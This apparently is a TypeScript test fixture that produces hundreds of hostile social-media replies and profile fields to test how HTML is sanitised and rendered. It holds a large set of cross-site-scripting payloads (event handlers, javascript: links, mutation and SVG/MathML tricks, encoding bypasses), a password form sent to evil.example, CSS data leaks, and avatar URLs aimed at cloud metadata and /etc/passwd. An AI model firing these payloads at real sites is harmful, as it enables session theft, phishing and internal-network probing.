/**
 * Replies from people who mean harm, or whose programs are broken: the families of the published
 * cross-site-scripting cheat sheets (OWASP's and PortSwigger's), mutation XSS, markup that escapes its
 * place, text that disturbs its surroundings, and data of every wrong shape. What would run says so: it
 * calls `alert`, or asks `https://evil.example` for something.
 */

/** One hostile reply, as its network would give it. */
export interface HostileReply {
  family: string;
  html: string;
  /** Fields laid over the status, as the API sends them. */
  status?: Record<string, unknown>;
  /** Fields laid over its author. */
  account?: { displayName?: string; avatar?: string; url?: string; note?: string };
  warning?: string;
}

const call = 'alert(1)';
const far = 'https://evil.example/';

/** Every case, the same in each run. */
export function hostileReplies(): HostileReply[] {
  const cases: HostileReply[] = [];
  const add = (family: string, ...markup: string[]) =>
    cases.push(...markup.map((html) => ({ family, html })));

  add('scripts', ...scripts());
  add('event handlers', ...eventHandlers());
  add('addresses', ...addresses());
  add('styles', ...styles());
  add('embedded documents', ...embedded());
  add('forms', ...forms());
  add('mutation', ...mutations());
  add('namespaces', ...namespaces());
  add('way out of the element', ...waysOut());
  add('clobbered names', ...clobbering());
  add('encodings', ...encodings());
  add('disturbing text', ...texts());
  add('size', ...sizes());
  cases.push(...people(), ...data());
  return cases;
}

function scripts(): string[] {
  return [
    `<script>${call}</script>`,
    `<SCRIPT>${call}</SCRIPT>`,
    `<script/x>${call}</script>`,
    `<script\n>${call}</script\n>`,
    `<script src=${far}x.js></script>`,
    `<script src=//evil.example/x.js></script>`,
    `<script src="data:text/javascript,${call}"></script>`,
    `<script type=module>import '${far}x.js'</script>`,
    `<script type=importmap>{"imports":{"a":"${far}"}}</script>`,
    `<script>\u0061lert(1)</script>`,
    `<script>window['al'+'ert'](1)</script>`,
    `<script>fetch('${far}')</script>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`,
    `<<script>${call}//<</script>`,
    `<script>${call}`,
    `</script><script>${call}</script>`,
    `<script async defer crossorigin src=${far}></script>`,
    `<noscript><script>${call}</script></noscript>`,
    `<script nomodule>${call}</script>`,
    `<script language=vbscript>MsgBox 1</script>`,
    `<script>/*</script><script>*/${call}</script>`,
    `<%<script>${call}</script>%>`,
    `<?xml-stylesheet href="javascript:${call}"?>`,
    `<!DOCTYPE html [<!ENTITY x "<script>${call}</script>">]>&x;`,
    `<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">${call}</xss:script>`,
    `<script\t\f\r\n/**/>${call}</script>`,
  ];
}

function eventHandlers(): string[] {
  const events =
    'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin bounce canplay canplaythrough change click close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange end ended error finish focus focusin focusout formdata fullscreenchange gesturestart hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart message mousedown mouseenter mousemove mouseout mouseover mouseup pagehide pageshow paste pause play playing pointerdown pointerenter pointermove pointerover pointerrawupdate popstate progress ratechange repeat reset resize scroll scrollend scrollsnapchange search seeked select selectionchange selectstart show start submit suspend timeupdate toggle touchstart transitionend transitionrun unhandledrejection unload volumechange waiting wheel';
  const everywhere = events
    .split(' ')
    .map(
      (event) => `<b on${event}="${call}" tabindex=0 autofocus contenteditable draggable=true>${event}</b>`,
    );
  return [
    ...everywhere,
    `<img src=x onerror=${call}>`,
    `<img/src=x/onerror=${call}>`,
    `<img src=x\tonerror\n=\n"${call}">`,
    `<img src=x oneonerrorrror=${call}>`,
    `<IMG """><SCRIPT>${call}</SCRIPT>">`,
    `<img src="x" onerror='${call}' `,
    `<img alt="<img src=x onerror=${call}>">`,
    `<img class="emoji" alt="&lt;img src=x onerror=${call}&gt;" src=x>`,
    `<image src=x onerror=${call}>`,
    `<input autofocus onfocus=${call}>`,
    `<select autofocus onfocus=${call}>`,
    `<textarea autofocus onfocus=${call}>`,
    `<keygen autofocus onfocus=${call}>`,
    `<video src=x onerror=${call}></video>`,
    `<video><source onerror=${call}></video>`,
    `<audio src=x onerror=${call}></audio>`,
    `<video poster=x onloadstart=${call}></video>`,
    `<body onload=${call}>`,
    `<body onpageshow=${call}>`,
    `<html onmouseover=${call}>`,
    `<frameset onload=${call}>`,
    `<marquee onstart=${call}>x</marquee>`,
    `<details open ontoggle=${call}>x</details>`,
    `<dialog open onclose=${call}>x</dialog>`,
    `<div popover id=p onbeforetoggle=${call}></div><button popovertarget=p>x</button>`,
    `<xss onafterscriptexecute=${call}><script>1</script>`,
    `<style onload=${call}></style>`,
    `<link rel=stylesheet href=x onerror=${call}>`,
    `<object data=x onerror=${call}></object>`,
    `<embed src=x onerror=${call}>`,
    `<track onerror=${call}>`,
    `<portal onload=${call}>`,
    `<a href=# onclick=${call} accesskey=x>x</a>`,
    `<b/onclick=${call}/>x</b>`,
    `<b onclick\0=${call}>x</b>`,
    `<b ONCLICK=${call}>x</b>`,
    `<b data-x="" onclick = ${call} data-y="">x</b>`,
  ];
}

function addresses(): string[] {
  const schemes = [
    `javascript:${call}`,
    `JaVaScRiPt:${call}`,
    ` javascript:${call}`,
    `\tjavascript:${call}`,
    `\u0001javascript:${call}`,
    `java\nscript:${call}`,
    `java\tscript:${call}`,
    `java\0script:${call}`,
    `javascript&colon;${call}`,
    `javascript&#58;${call}`,
    `javascript&#x3a;${call}`,
    `&#106;&#97;vascript:${call}`,
    `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${call}`,
    `&#0000106&#0000097vascript:${call}`,
    `javascript://https://a.example/%0a${call}`,
    `javascript:/*https://*/${call}`,
    `jav&#x09;ascript:${call}`,
    `jav&NewLine;ascript:${call}`,
    `\u2028javascript:${call}`,
    `ｊａｖａｓｃｒｉｐｔ:${call}`,
    `vbscript:msgbox(1)`,
    `livescript:${call}`,
    `data:text/html,<script>${call}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
    `blob:https://evil.example/x`,
    `filesystem:https://evil.example/x`,
    `view-source:javascript:${call}`,
    `file:///etc/passwd`,
    `feed:javascript:${call}`,
    `jar:${far}x.jar!/x`,
    `about:blank#${call}`,
    `//evil.example/x`,
    `\\\\evil.example\\x`,
    `/\\evil.example`,
    `https:evil.example`,
    `https://a.example@evil.example/`,
    `https://user:password@evil.example/`,
    `http://[::1]/`,
    `https://evil.example\\@a.example/`,
    `https://xn--80ak6aa92e.com/`,
    `https://a.example/"onmouseover="${call}`,
    `https://a.example/'onmouseover='${call}`,
    `https://a.example/><script>${call}</script>`,
    `https://a.example/%22%3E%3Cscript%3E${call}%3C/script%3E`,
    `#replies`,
    `?x=1`,
    ``,
  ];
  return [
    ...schemes.map((scheme) => `<a href="${scheme}">link</a>`),
    ...schemes.slice(0, 12).map((scheme) => `<img src="${scheme}">`),
    ...schemes.slice(0, 6).map((scheme) => `<iframe src="${scheme}"></iframe>`),
    `<a href=javascript:${call}>x</a>`,
    `<a href='javascript:${call}'>x</a>`,
    `<a href=\`javascript:${call}\`>x</a>`,
    `<a href="https://evil.example/">https://bank.example/</a>`,
    `<a ping="${far}" href="https://a.example/">x</a>`,
    `<a href="https://a.example" target=_self download>x</a>`,
    `<a href="https://a.example" href="javascript:${call}">x</a>`,
    `<a href="https://a.example"><a href="javascript:${call}">x</a></a>`,
    `<area href="javascript:${call}"><map name=x>`,
    `<blockquote cite="javascript:${call}">x</blockquote>`,
    `<q cite="${far}">x</q>`,
    `<img srcset="${far} 1x" sizes=100vw>`,
    `<picture><source srcset="${far}"><img></picture>`,
    `<img src=${far}pixel.gif width=1 height=1>`,
    `<img lowsrc=${far} dynsrc=${far}>`,
    `<video src=${far}></video><audio src=${far} autoplay></audio>`,
    `<body background=${far}><table background=${far}><td background=${far}>x</table>`,
    `<bgsound src=${far}>`,
    `<link rel=preconnect href=${far}><link rel=dns-prefetch href=${far}><link rel=prefetch href=${far}>`,
    `<link rel=stylesheet href=${far}x.css><link rel=icon href=${far}>`,
    `<meta http-equiv=refresh content="0;url=${far}">`,
    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    `<base href=${far}><a href=x>x</a>`,
    `<base href="javascript:/a/-${call}///////"><a href=../x>x</a>`,
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${far}"]}]}</script>`,
  ];
}

function styles(): string[] {
  const declarations = [
    `background:url(${far})`,
    `background:url('javascript:${call}')`,
    `width:expression(${call})`,
    `behavior:url(${far})`,
    `-moz-binding:url(${far}#x)`,
    `position:fixed;inset:0;z-index:99999;background:red`,
    `position:absolute;top:-9999px`,
    `display:block;height:100000px;width:100000px`,
    `animation:x 1s;animation-name:x`,
    `font-size:10000px`,
    `cursor:url(${far}),auto`,
    `list-style:url(${far})`,
    `content:url(${far})`,
    `transform:scale(1000)`,
    `all:initial;visibility:hidden`,
    `--x:1;mask:url(${far}#x)`,
  ];
  return [
    ...declarations.map((declaration) => `<p style="${declaration}">styled</p>`),
    ...declarations.map((declaration) => `<style>body,.replies,h1{${declaration}}</style>`),
    `<style>@import '${far}x.css';</style>`,
    `<style>@font-face{font-family:x;src:url(${far})}*{font-family:x}</style>`,
    `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${call}">x</b>`,
    `<style>input[value^=a]{background:url(${far})}</style>`,
    `<style><!--</style><script>${call}//--></script>`,
    `<b class="skip sr-only portrait leaf part replies" id=main>x</b>`,
    `<font size=7 color=red>x</font><center>x</center><blink>x</blink>`,
    `<p align=right dir=rtl lang=ar hidden>x</p>`,
    `<table width=99999 height=99999 border=99><tr><td>x</table>`,
    `<hr width=99999 size=999><pre width=9999>${'x'.repeat(2_000)}</pre>`,
    `<marquee scrollamount=9999 width=9999>x</marquee>`,
    `<img width=99999 height=99999>`,
  ];
}

function embedded(): string[] {
  return [
    `<iframe src="javascript:${call}"></iframe>`,
    `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;"></iframe>`,
    `<iframe src=${far}></iframe>`,
    `<iframe onload=${call}></iframe>`,
    `<iframe/><script>${call}</script>`,
    `<frame src=${far}><frameset><frame src="javascript:${call}"></frameset>`,
    `<object data="javascript:${call}"></object>`,
    `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
    `<object type=text/x-scriptlet data=${far}></object>`,
    `<object><param name=src value="javascript:${call}"></object>`,
    `<embed src="javascript:${call}">`,
    `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
    `<embed code=${far}x.swf allowscriptaccess=always>`,
    `<applet code=x codebase=${far}></applet>`,
    `<portal src=${far}></portal>`,
    `<fencedframe src=${far}></fencedframe>`,
    `<template shadowrootmode=open><script>${call}</script></template>`,
    `<template><img src=x onerror=${call}></template>`,
    `<slot name=x onslotchange=${call}></slot>`,
    `<x-element is=x onclick=${call}></x-element>`,
    `<button is="x-button" onclick=${call}></button>`,
    `<xml src=${far} id=x></xml><span datasrc=#x datafld=y dataformatas=html></span>`,
    `<layer src=${far}></layer><ilayer src=${far}></ilayer>`,
    `<webview src=${far}></webview>`,
  ];
}

function forms(): string[] {
  return [
    `<form action=${far}><input type=password name=p><button>x</button></form>`,
    `<form action="javascript:${call}"><input type=submit></form>`,
    `<button formaction="javascript:${call}">x</button>`,
    `<input type=image src=${far} formaction=${far}>`,
    `<isindex action="javascript:${call}" type=image>`,
    `<form id=x></form><button form=x formaction="javascript:${call}">x</button>`,
    `<input type=hidden oncontentvisibilityautostatechange=${call} style=content-visibility:auto>`,
    `<form><input name=attributes><input name=parentNode></form>`,
    `<label for=main>x</label><output for=main>x</output>`,
    `<select><option><script>${call}</script></option></select>`,
    `<textarea></textarea><script>${call}</script>`,
    `<fieldset disabled><legend><a href="javascript:${call}">x</a></legend></fieldset>`,
    `<button popovertarget=replies popovertargetaction=hide>x</button>`,
    `<button commandfor=replies command=show-modal>x</button>`,
    `<dialog open style=position:fixed>Your password, please</dialog>`,
  ];
}

function mutations(): string[] {
  const containers = [
    'noscript',
    'title',
    'textarea',
    'style',
    'xmp',
    'iframe',
    'noembed',
    'noframes',
    'plaintext',
    'template',
    'select',
    'option',
  ];
  const payloads = [
    `<img src=x onerror=${call}>`,
    `<svg onload=${call}>`,
    `<a href="javascript:${call}">x</a>`,
  ];
  return [
    ...containers.flatMap((tag) => payloads.map((payload) => `<${tag}><p title="</${tag}>${payload}">`)),
    ...containers.map((tag) => `<${tag}><!--</${tag}><img src=x onerror=${call}>-->`),
    ...containers.map((tag) => `<p><${tag}></p></${tag}><img src=x onerror=${call}>`),
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
    `<math><mtext><table><mglyph><style><math><img src=x onerror=${call}></style>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
    `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
    `<svg><style><img src="</style><img src=x onerror=${call}//">`,
    `<svg><desc><![CDATA[</desc><script>${call}</script>]]></svg>`,
    `<svg><foreignObject><p><style><a title="</style><img src=x onerror=${call}>"></style>`,
    `<p><svg><title><p></title><script>${call}</script></svg>`,
    `<table><tr><td><svg><desc><td></desc><img src=x onerror=${call}></svg>`,
    `<a><b><table><a><script>${call}</script></table></b></a>`,
    `<p><table><p><script>${call}</script></table>`,
    `<b><p><b><p><b><p><i></b></b></b><script>${call}</script>`,
    `<a href="https://a.example"><table><a href="javascript:${call}">x</table>`,
    `<!--><img src=x onerror=${call}>-->`,
    `<!---><img src=x onerror=${call}>-->`,
    `<!--!><img src=x onerror=${call}>`,
    `<!--a--!><img src=x onerror=${call}>-->`,
    `<! foo="><script>${call}</script>">`,
    `</ foo="><script>${call}</script>">`,
    `<? foo="><script>${call}</script>">`,
    `<%><img src=x onerror=${call}>`,
    `<![CDATA[<script>${call}</script>]]>`,
    `<![endif]--><script>${call}</script>`,
    `<!--[if IE]><script>${call}</script><![endif]-->`,
    `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
    `<xmp><p title="</xmp><svg/onload=${call}>">`,
    `<pre>\n\n<img src=x onerror=${call}></pre>`,
    `<p title="&quot;&gt;&lt;img src=x onerror=${call}&gt;">x</p>`,
    `<p title='"><script>${call}</script>'>x</p>`,
    `<a href="https://a.example/?&lt;script&gt;${call}">x</a>`,
    `&lt;script&gt;${call}&lt;/script&gt;`,
    `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
    `<b a="\`" b="\` onclick=${call}">x</b>`,
  ];
}

function namespaces(): string[] {
  return [
    `<svg onload=${call}>`,
    `<svg/onload=${call}//`,
    `<svg><script>${call}</script></svg>`,
    `<svg><script href=data:,${call} />`,
    `<svg><script xlink:href=${far} />`,
    `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
    `<svg><a><animate attributeName=href values=javascript:${call} /><text y=20>x</text></a></svg>`,
    `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
    `<svg><set attributeName=href to=javascript:${call}>`,
    `<svg><animatetransform onbegin=${call}>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x" /></svg>`,
    `<svg><use xlink:href="${far}x.svg#x"/></svg>`,
    `<svg><image href=${far} /></svg>`,
    `<svg><image xlink:href="javascript:${call}" onerror=${call} /></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></foreignObject></svg>`,
    `<svg><foreignObject><body onload=${call}></foreignObject></svg>`,
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${call}</handler></svg>`,
    `<svg><feImage href=${far} /><filter id=f><feImage xlink:href=${far} /></filter></svg>`,
    `<svg><style>@import "${far}"</style></svg>`,
    `<svg width=99999 height=99999><rect width=99999 height=99999 /></svg>`,
    `<svg><discard onbegin=${call} />`,
    `<svg><mpath href=${far} />`,
    `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${call}">x</a></svg>`,
    `<math href="javascript:${call}">x</math>`,
    `<math><a xlink:href="javascript:${call}">x</a></math>`,
    `<math><maction actiontype="statusline#${far}" xlink:href="javascript:${call}">x</maction></math>`,
    `<math><annotation-xml encoding="text/html"><script>${call}</script></annotation-xml></math>`,
    `<math><mi//xlink:href="data:x,<script>${call}</script>">x`,
    `<math><semantics><annotation encoding=application/xhtml+xml><img src=x onerror=${call}></annotation></semantics></math>`,
    `<math><mstyle mathbackground="url(${far})">x</mstyle></math>`,
    `<svg><g><path d="M0 0" onmouseover=${call} /></g></svg>`,
    `<svg><text><tspan onclick=${call}>x</tspan></text></svg>`,
  ];
}

function waysOut(): string[] {
  const elements = [
    'div',
    'section',
    'article',
    'main',
    'li',
    'ol',
    'ul',
    'details',
    'p',
    'span',
    'a',
    'body',
    'html',
    'template',
    'table',
  ];
  return [
    ...elements.map((tag) => `${`</${tag}>`.repeat(20)}<h1>I am the page now</h1>`),
    ...elements.map((tag) => `${`<${tag}>`.repeat(20)}unclosed`),
    `</body></html><script>${call}</script>`,
    `<plaintext>the rest of the page`,
    `<title>the rest of the page`,
    `<textarea>the rest of the page`,
    `<!-- the rest of the page`,
    `<![CDATA[ the rest of the page`,
    `<style> the rest of the page`,
    `<b title="the rest of the page`,
    `<a href='the rest of the page`,
    `<p <p <p <p`,
    `<`,
    `<a`,
    `<a href=`,
    `&`,
    `&#`,
    `&#x110000;&#xD800;&#0;&#128;`,
    `<b><i><s><code><em><strong>${'</b></i>'.repeat(50)}`,
    `<summary>x</summary><details><summary>y`,
    `<nobr><nobr><nobr><marquee></nobr>`,
    `<br>`.repeat(2_000),
    `<p>x</p>`.repeat(2_000),
    `<ul><li>`.repeat(500),
    `<blockquote>`.repeat(500),
  ];
}

function clobbering(): string[] {
  const names = [
    'main',
    'replies',
    'body',
    'head',
    'document',
    'forms',
    'getElementById',
    'querySelector',
    'location',
    'cookie',
    'currentScript',
    'attributes',
    'innerHTML',
    'parentNode',
    '__proto__',
    'constructor',
    'toString',
  ];
  return names.flatMap((name) => [
    `<a id=${name} name=${name} href="https://a.example">x</a>`,
    `<form id=${name}><input name=${name}></form>`,
  ]);
}

function encodings(): string[] {
  return [
    `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
    `\u00bcscript\u00be${call}\u00bc/script\u00be`,
    `＜script＞${call}＜/script＞`,
    `\ud800<script>${call}</script>\udfff`,
    `\udc00\ud800\udc00\ud800`,
    `<scr\0ipt>${call}</scr\0ipt>`,
    `<img src=x onerror\0=${call}>`,
    `\x1b$B<script>${call}</script>\x1b(B`,
    `\ufeff<script>${call}</script>`,
    `<s\u0131cript>${call}</s\u0131cript>`,
    `<ſcript>${call}</ſcript>`,
    `<\u212aBD>x</\u212aBD>`,
    Buffer.from([0xc0, 0xbc, 0x73, 0x63, 0x72, 0x69, 0x70, 0x74, 0xc0, 0xbe]).toString('latin1'),
    Buffer.from([0xff, 0xfe, 0x3c, 0x00, 0x62, 0x00, 0x3e, 0x00]).toString('latin1'),
    Buffer.from([0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0x28]).toString('utf8'),
    `&#60script&#62${call}&#60/script&#62`,
    `&#x3c;script&#x3e;${call}&#x3c;/script&#x3e;`,
    `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
    `%3Cscript%3E${call}%3C/script%3E`,
    `\x3cscript\x3e${call}\x3c/script\x3e`,
    `{{constructor.constructor('${call}')()}}`,
    `\${${call}}`,
    `<%= ${call} %>`,
    `{${call}}`,
    `---\ntitle: x\n---\n<script>${call}</script>`,
    `]]></script></style><script>${call}</script>`,
    `\u2028\u2029<script>${call}</script>`,
  ];
}

function texts(): string[] {
  return [
    `\u202Etxet desrever`,
    `${'\u202E'.repeat(500)}abc`,
    `\u2066\u2067\u2068 unbalanced`,
    `\u202A\u202B\u202C\u202D`,
    `&#8238;&#x202e;&#8295;abc`,
    `Z${'\u0300\u0301\u0302\u0303\u0304'.repeat(300)}algo`,
    Array.from('zalgo everywhere', (letter) => letter + '\u0336\u0489\u20dd\u035c'.repeat(20)).join(''),
    `${'\u200b'.repeat(5_000)}x`,
    `${'\u200d'.repeat(5_000)}x`,
    `${'\u3164'.repeat(5_000)}x`,
    `${'\u{E0041}'.repeat(2_000)}x`,
    `${'\ufe0f'.repeat(2_000)}x`,
    '﷽'.repeat(200),
    '𒐫'.repeat(200),
    '꧅'.repeat(200),
    'w'.repeat(20_000),
    `https://a.example/${'w'.repeat(5_000)}`,
    `<a href="https://a.example/${'w'.repeat(1_500)}">https://a.example/${'w'.repeat(1_500)}</a>`,
    `<code>${'w'.repeat(5_000)}</code>`,
    `<pre>${'w'.repeat(5_000)}</pre>`,
    '\n'.repeat(5_000),
    '\t'.repeat(5_000),
    '&nbsp;'.repeat(5_000),
    '👩‍👩‍👧‍👦'.repeat(500),
    '\x00\x01\x02\x07\x1b[31mred\x1b[0m',
    '\uFFF9interlinear\uFFFAannotation\uFFFB',
    '\uFDD0\uFFFE\uFFFF',
    'ا'.repeat(2_000),
    'ﷺﷺﷺ \u061C\u200F\u200E mixed العربية and English',
    '¯\\_(ツ)_/¯ \\n \\r \\0',
  ];
}

function sizes(): string[] {
  return [
    'x'.repeat(1_000_000),
    'word '.repeat(200_000),
    `${'<b>'.repeat(10_000)}deep`,
    `${'<div><p>'.repeat(10_000)}deep`,
    '&lt;'.repeat(200_000),
    `<p title="${'x'.repeat(1_000_000)}">x</p>`,
    `<${'x'.repeat(100_000)}>x`,
    '<a href="https://a.example">'.repeat(10_000),
    '<'.repeat(300_000),
    '<!--'.repeat(50_000),
    '<p>'.repeat(50_000),
    '<br>'.repeat(100_000),
  ];
}

/** Names, handles, pictures and addresses of people. */
function people(): HostileReply[] {
  const names = [
    `<script>${call}</script>`,
    `"><img src=x onerror=${call}>`,
    `' onmouseover='${call}`,
    '\u202Eeman desrever',
    `Z${'\u0301'.repeat(500)}`,
    'x'.repeat(5_000),
    '',
    '\u200b\u3164\ufeff',
    'line\nbreak\r\n\t and tab',
    '﷽'.repeat(50),
    '👩‍👩‍👧‍👦'.repeat(50),
    '&lt;b&gt;bold&lt;/b&gt;',
    '\ud800',
    '__proto__',
    ':blob: :cat:',
    'Author',
  ];
  const pictures = [
    'http://169.254.169.254/latest/meta-data/',
    'https://169.254.169.254/x.png',
    'https://10.0.0.1/x.png',
    'https://[fd00:ec2::254]/x.png',
    'https://localhost:1/x.png',
    'file:///etc/passwd',
    'data:image/svg+xml,<svg onload=alert(1)>',
    `javascript:${call}`,
    'ftp://evil.example/x.png',
    'x'.repeat(100_000),
  ];
  const pages = [
    `javascript:${call}`,
    'data:text/html,x',
    'https://user:password@evil.example/',
    `https://a.example/"onclick="${call}`,
    'not an address',
    `https://a.example/${'x'.repeat(100_000)}`,
    '',
  ];
  const text = '<p>An ordinary sentence.</p>';
  return [
    ...names.map((displayName) => ({ family: 'names', html: text, account: { displayName } })),
    ...pictures.map((avatar) => ({ family: 'pictures', html: text, account: { avatar } })),
    ...pages.map((url) => ({ family: 'profiles', html: text, account: { url } })),
  ];
}

/** Wrong dates, ids, languages, numbers and permalinks. */
function data(): HostileReply[] {
  const text = '<p>An ordinary sentence.</p>';
  const dates = [
    '9999-12-31T23:59:59Z',
    '2099-01-01T00:00:00Z',
    '1970-01-01T00:00:00Z',
    '0001-01-01T00:00:00Z',
    '-271821-04-20T00:00:00Z',
    '+275760-09-13T00:00:00Z',
    'yesterday',
    '',
    null,
    0,
    -1,
    1e20,
    {},
    [],
    '2026-02-31T25:61:61Z',
    `"><script>${call}</script>`,
  ];
  const languages = [
    `"><script>${call}</script>`,
    'x'.repeat(10_000),
    '',
    'zz-ZZ-zz',
    'en_US',
    null,
    5,
    {},
    'ar',
    '*',
  ];
  const links = [
    `javascript:${call}`,
    'data:text/html,x',
    `https://a.example/"><script>${call}</script>`,
    '',
    null,
    7,
    'not an address',
    'https://user:password@evil.example/',
    `https://a.example/${'x'.repeat(100_000)}`,
  ];
  const counts = [-1, 1e308, '7', null, {}, Number.MAX_SAFE_INTEGER, 0.5];
  const shapes: Record<string, unknown>[] = [
    { content: null },
    { content: 5 },
    { content: ['<script>'] },
    { media_attachments: 'x' },
    { media_attachments: new Array(1_000).fill({}) },
    { visibility: 'everybody' },
    { in_reply_to_id: '__proto__' },
    { in_reply_to_id: {} },
    { poll: { options: 'x' } },
    { emojis: [{ shortcode: '<script>', url: `javascript:${call}` }] },
    { spoiler_text: `<script>${call}</script>` },
    { spoiler_text: 'x'.repeat(50_000) },
    { spoiler_text: '\u202E'.repeat(100) },
    { account: null },
    { account: { id: 5 } },
    { tags: null, mentions: 'x', card: { url: `javascript:${call}`, html: `<script>${call}</script>` } },
  ];
  const over = (family: string, field: string, values: unknown[]) =>
    values.map((value) => ({ family, html: text, status: { [field]: value } }));
  return [
    ...over('dates', 'created_at', dates),
    ...over('languages', 'language', languages),
    ...over('permalinks', 'url', links),
    ...over('counts', 'favourites_count', counts),
    ...shapes.map((status) => ({ family: 'shapes', html: text, status })),
    ...[`<script>${call}</script>`, `"><img src=x onerror=${call}>`, '\u202Ewarning', 'x'.repeat(10_000)].map(
      (warning) => ({ family: 'warnings', html: text, warning }),
    ),
  ];
}
